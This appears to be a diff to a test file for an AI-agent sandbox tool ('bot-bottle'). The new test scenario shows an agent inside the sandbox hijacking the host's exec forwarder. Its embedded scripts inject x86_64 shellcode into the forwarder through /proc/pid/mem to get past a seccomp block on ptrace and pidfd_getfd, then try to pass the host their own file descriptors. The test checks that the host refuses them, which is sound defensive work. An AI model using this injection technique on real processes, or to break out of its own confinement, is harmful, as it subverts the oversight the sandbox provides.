@@ -266,13 +266,15 @@ def test_an_agent_that_stops_the_exec_helper_gets_a_clear_refusal(tmp_path: Path
         assert time.monotonic() - start < 5
 
 
-# The agent takes the exec listener from the forwarder (its own child: pidfd_getfd needs
-# no more than that), kills the forwarder and answers `bot-bottle exec` itself: it tries
-# to hand the host descriptors of its own (a FIFO in the bottle, the pty it was sent)
-# and floods the status line. The host must take none of them and end cleanly.
+# The agent takes over the forwarder's exec service and answers `bot-bottle exec` itself:
+# the forwarder is its own child and runs as its user, so it may write the child's
+# memory through /proc (seccomp refuses ptrace and pidfd_getfd, not that). It patches
+# the code after the forwarder's blocked accept() to exec its own program with the new
+# connection (x86_64), which then tries to hand the host descriptors of its own (a FIFO
+# in the bottle, the pty it was sent) and floods the status line. The host must take
+# none of them and end cleanly.
 HIJACK = r"""
-import ctypes, os, signal, socket, sys, time
-libc = ctypes.CDLL(None, use_errno=True)
+import os, struct
 def log(m):
     with open("/workspace/hijack.log", "a") as f: f.write(m + "\n")
 pumper = None
@@ -283,15 +285,45 @@ for pid in os.listdir("/proc"):
         continue
     if pid.isdigit() and any(c.endswith(b"forwarder.py") for c in cmd) and b"exec" in cmd:
         pumper, fdno = int(pid), int(cmd[cmd.index(b"exec") + 1])
-pidfd = libc.syscall(434, pumper, 0)  # pidfd_open (x86_64)
-fd = libc.syscall(438, pidfd, fdno, 0) if pidfd >= 0 else -1  # pidfd_getfd
-if fd < 0:
-    log(f"cannot take the listener: {os.strerror(ctypes.get_errno())}")
-    sys.exit(0)
-os.kill(pumper, signal.SIGKILL)
-listener = socket.socket(fileno=fd)
+pc = None
+for tid in os.listdir(f"/proc/{pumper}/task"):
+    f = open(f"/proc/{pumper}/task/{tid}/syscall").read().split()
+    if f[0] in ("43", "288") and int(f[1], 16) == fdno:  # accept/accept4 on the listener
+        pc = int(f[-1], 16)
+if pc is None:
+    log("cannot take the listener: no accept found")
+    raise SystemExit(0)
+path, arg = b"/usr/bin/python3\0", b"/workspace/hijack2.py\0"
+code = (bytes.fromhex("4889c7" "b848000000" "be02000000" "31d2" "0f05")  # fcntl(conn, F_SETFD, 0)
+        + b"\x48\xbf" + b"PATHADDR" + b"\x48\xbe" + b"ARGVADDR"
+        + bytes.fromhex("31d2" "b83b000000" "0f05" "ebfe"))  # execve(path, argv, NULL)
+data_at = pc + len(code)
+argv_at = data_at + len(path) + len(arg)
+code = code.replace(b"PATHADDR", struct.pack("<Q", data_at))
+code = code.replace(b"ARGVADDR", struct.pack("<Q", argv_at))
+blob = code + path + arg + struct.pack("<QQQ", data_at, data_at + len(path), 0)
+try:
+    with open(f"/proc/{pumper}/mem", "r+b", buffering=0) as mem:
+        mem.seek(pc)
+        mem.write(blob)
+except OSError as e:
+    log(f"cannot take the listener: {e}")
+    raise SystemExit(0)
 log("listening")
-conn, _ = listener.accept()
+"""
+HIJACK2 = r"""
+import os, socket, time
+def log(m):
+    with open("/workspace/hijack.log", "a") as f: f.write(m + "\n")
+log("exec'd in the forwarder")
+def connected(fd):  # a socket, not listening: the connection accept() returned
+    try:
+        s = socket.socket(fileno=os.dup(fd))
+    except OSError:
+        return False
+    with s:
+        return s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) == 0
+conn = socket.socket(fileno=max(fd for fd in map(int, os.listdir("/proc/self/fd")) if connected(fd)))
 msg, fds, _f, _a = socket.recv_fds(conn, 65536, 3)
 os.mkfifo("/tmp/bb-hijack-fifo")
 fifo = os.open("/tmp/bb-hijack-fifo", os.O_RDWR)
@@ -310,6 +342,7 @@ def test_a_hijacked_exec_gets_nothing_into_the_host(tmp_path: Path, bwrap_ok: No
     ws = tmp_path / "ws"
     ws.mkdir()
     (ws / "hijack.py").write_text(HIJACK)
+    (ws / "hijack2.py").write_text(HIJACK2)
     hand_over(ws)
     (tmp_path / "bot-bottle.yaml").write_text(
         "bottles:\n  b:\n"
